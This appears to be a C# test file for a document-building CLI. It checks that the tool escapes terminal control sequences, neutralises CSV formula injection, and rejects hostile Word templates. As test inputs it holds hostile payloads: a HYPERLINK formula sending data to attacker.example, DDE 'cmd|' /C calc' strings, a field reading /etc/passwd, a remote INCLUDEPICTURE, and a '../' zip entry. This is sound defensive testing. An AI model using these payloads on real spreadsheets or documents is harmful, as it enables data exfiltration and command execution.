using System.IO.Compression;
using System.Text;
using Rgiem.Cli.Tests.Support;
using Rgiem.Docx.Templates;
using Rgiem.Testing;

namespace Rgiem.Cli.Tests;

/// <summary>
/// Issue 17, output hygiene and delta: what a hostile record puts in front of a terminal, a spreadsheet or a
/// reviewer. Terminal escape sequences are shown escaped in every text format, CSV cells cannot become formulas,
/// and <c>rgiem delta</c> reports what <c>rgiem build</c> reports instead of writing a document with text missing.
/// </summary>
public class HostileOutputTests
{
    private const string Escapes = "\u001b]0;pwned\u0007\u001b[2J\u001b[31m";

    private const string Project = "defaults:\n  group: RG-IEM\n  parent: TSAG\n  study-period: 2022-2024\n  source: Rapporteur, TSAG RG-IEM\n  contacts: [Glenn Parsons]\n";

    [Theory]
    [InlineData("human")]
    [InlineData("msbuild")]
    [InlineData("github")]
    public void Escape_sequences_from_a_record_are_printed_escaped(string format)
    {
        using var folder = new TempFolder();
        // YAML's own escapes (\e, \a) put the control characters in the value; the body holds them raw.
        folder.Write("r.md", Records.FrontMatter.Replace("from: 2024-07-29", "from: \"2024\\e]0;pwned\\a\\e[2J\"", StringComparison.Ordinal)
            + "# 1 Introduction\n\nText " + Escapes + " with a date TBC.\n");
        var run = CliRun.Of(folder.FullPath, "check", "r.md", "--format", format);
        Assert.Equal(1, run.ExitCode);
        Assert.Contains("RG1010", run.Output, StringComparison.Ordinal);
        Assert.DoesNotContain('\u001b', run.Output + run.Error);
        Assert.DoesNotContain('\u0007', run.Output + run.Error);
        Assert.Contains("\\x1B]0;pwned\\x07", run.Output, StringComparison.Ordinal);
    }

    [Fact]
    public void The_caret_stays_under_the_span_when_the_line_holds_escapes()
    {
        using var folder = new TempFolder();
        folder.Write("r.md", Records.WithBody("# 1 Introduction\n\n\u001b[31mThe date is TBC.\n"));
        var run = CliRun.Of(folder.FullPath, "check", "r.md");
        var lines = run.Output.Split('\n').Select(l => l.TrimEnd('\r')).ToList();
        int source = lines.FindIndex(l => l.Contains("The date is TBC.", StringComparison.Ordinal));
        Assert.True(source >= 0, run.ToString());
        Assert.Equal(lines[source].IndexOf("TBC", StringComparison.Ordinal), lines[source + 1].IndexOf('^', StringComparison.Ordinal));
    }

    [Fact]
    public void Actions_csv_neutralises_cells_that_a_spreadsheet_would_run_as_formulas()
    {
        using var folder = new TempFolder();
        folder.Write("rgiem.yaml", Project);
        folder.Write("meetings/a.md", "---\nnumber: TSAG-TD300\nmeeting: {place: e-meeting, from: 2023-01-31}\ntitle: Meeting\nabstract: Summary.\n---\n\n# 1 Introduction\n\n"
            + "RG-IEM-1: =HYPERLINK(\"http://attacker.example/?\"&A1,\"Click\")\n\nRG-IEM-2: @SUM(1+1)*cmd|' /C calc'!A0\n");
        var run = CliRun.Of(folder.FullPath, "actions", "--format", "csv");
        Assert.True(run.ExitCode == 0, run.ToString());
        var cells = Rfc4180.Parse(run.Output).Skip(1).SelectMany(r => r).ToList();
        Assert.DoesNotContain(cells, c => c.Length > 0 && c[0] is '=' or '+' or '-' or '@' or '\t' or '\r');
        Assert.Contains("'=HYPERLINK(\"http://attacker.example/?\"&A1,\"Click\")", cells);
        Assert.Contains(cells, c => c.StartsWith("'@SUM", StringComparison.Ordinal));
    }

    [Fact]
    public void Refs_csv_neutralises_cells_that_a_spreadsheet_would_run_as_formulas()
    {
        using var folder = new TempFolder();
        folder.Write("rgiem.yaml", Project);
        folder.Write("meetings/a.md", "---\nnumber: TSAG-TD300\nmeeting: {place: e-meeting, from: 2023-01-31}\ntitle: Meeting\nabstract: Summary.\n"
            + "documents:\n  - {number: TSAG-TD624, title: \"=cmd|' /C calc'!A0\", source: \"+1-2\"}\n---\n\n# 1 Introduction\n\nThe meeting noted TSAG-TD624.\n");
        var run = CliRun.Of(folder.FullPath, "refs", "--format", "csv");
        Assert.True(run.ExitCode == 0, run.ToString());
        var row = Assert.Single(Rfc4180.Parse(run.Output).Skip(1), r => r[0] == "TSAG-TD624");
        Assert.Equal("'=cmd|' /C calc'!A0", row[1]);
        Assert.Equal("'+1-2", row[2]);
    }

    [Fact]
    public void Delta_of_two_files_with_broken_front_matter_is_an_error_not_an_empty_cover()
    {
        using var folder = new TempFolder();
        folder.Write("a.md", "---\ntitle: [unclosed\n---\n\n# 1 Text\n\nOld.\n");
        folder.Write("b.md", "---\ntitle: [unclosed\nabstract: x\n---\n\n# 1 Text\n\nNew.\n");
        var run = CliRun.Of(folder.FullPath, "delta", "a.md", "b.md", "-o", "out/delta.docx");
        Assert.Equal(1, run.ExitCode);
        Assert.NotEmpty(run.Diagnostics);
        Assert.False(File.Exists(folder.Combine("out/delta.docx")));
    }

    [Fact]
    public void Delta_refuses_paragraphs_that_build_refuses_instead_of_dropping_them()
    {
        using var folder = new TempFolder();
        string body = "# 1 Text\n\n" + new string('a', 70_000) + "\n\n" + new string('b', 70_000) + "\n";
        folder.Write("a.md", Records.WithBody(body));
        folder.Write("b.md", Records.WithBody(body.Replace("# 1 Text", "# 1 Changed text", StringComparison.Ordinal)));
        var run = CliRun.Of(folder.FullPath, "delta", "a.md", "b.md", "-o", "out/delta.docx");
        Assert.Equal(1, run.ExitCode);
        Assert.Contains(run.Diagnostics, d => d.Id == "RG2012");
        Assert.False(File.Exists(folder.Combine("out/delta.docx")));
    }

    [Fact]
    public void Delta_refuses_a_quote_nested_as_deep_as_build_refuses()
    {
        using var folder = new TempFolder();
        folder.Write("a.md", Records.WithBody("# 1 Text\n\n" + new string('>', 5000) + " kept\n"));
        folder.Write("b.md", Records.WithBody("# 1 Text\n\nNew.\n"));
        var run = CliRun.Of(folder.FullPath, "delta", "a.md", "b.md", "-o", "out/delta.docx");
        Assert.Equal(1, run.ExitCode);
        Assert.Contains(run.Diagnostics, d => d.Id == "RG2001");
        Assert.False(File.Exists(folder.Combine("out/delta.docx")));
    }

    [Theory]
    [InlineData("../evil.xml", null, "RG8025")]
    [InlineData(null, "<w:p><w:fldSimple w:instr=\" INCLUDETEXT &quot;/etc/passwd&quot; \"/></w:p>", "RG8026")]
    [InlineData(null, "<w:p><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText>INCLUDEPIC</w:instrText></w:r><w:r><w:instrText>TURE \"http://attacker.example/x.png\"</w:instrText></w:r><w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:p>", "RG8026")]
    [InlineData(null, "<w:altChunk xmlns:r=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships\" r:id=\"rIdX\"/>", "RG8027")]
    public void A_hostile_template_is_refused_by_template_check_and_by_build(string? entry, string? body, string id)
    {
        using var folder = new TempFolder();
        folder.CopySamples(".");
        folder.Write("hostile.dotx", Hostile(entry, body));
        var check = CliRun.Of(folder.FullPath, "template", "check", "hostile.dotx", "--format", "msbuild");
        Assert.Equal(1, check.ExitCode);
        Assert.Contains("error " + id, check.Output, StringComparison.Ordinal);

        var build = CliRun.Of(folder.FullPath, "build", ".", "--template", "hostile.dotx", "--format", "msbuild");
        Assert.Equal(1, build.ExitCode);
        Assert.Contains("error " + id, build.Output, StringComparison.Ordinal);
        Assert.False(Directory.Exists(folder.Combine("out")) && Directory.EnumerateFiles(folder.Combine("out"), "*.docx").Any());
    }

    /// <summary>The built-in template with an extra zip entry, or extra XML at the end of its body.</summary>
    private static byte[] Hostile(string? entry, string? body)
    {
        using var output = new MemoryStream();
        using (var source = new ZipArchive(new MemoryStream(BuiltInTemplate.Export()), ZipArchiveMode.Read))
        using (var target = new ZipArchive(output, ZipArchiveMode.Create, leaveOpen: true))
        {
            foreach (var part in source.Entries)
            {
                using var reader = new StreamReader(part.Open(), Encoding.UTF8);
                string text = reader.ReadToEnd();
                if (part.FullName == "word/document.xml" && body is not null)
                {
                    text = text.Insert(text.LastIndexOf("<w:sectPr", StringComparison.Ordinal), body);
                }

                using var writer = new StreamWriter(target.CreateEntry(part.FullName).Open(), new UTF8Encoding(false));
                writer.Write(text);
            }

            if (entry is not null)
            {
                using var writer = new StreamWriter(target.CreateEntry(entry).Open());
                writer.Write("<x/>");
            }
        }

        return output.ToArray();
    }
}
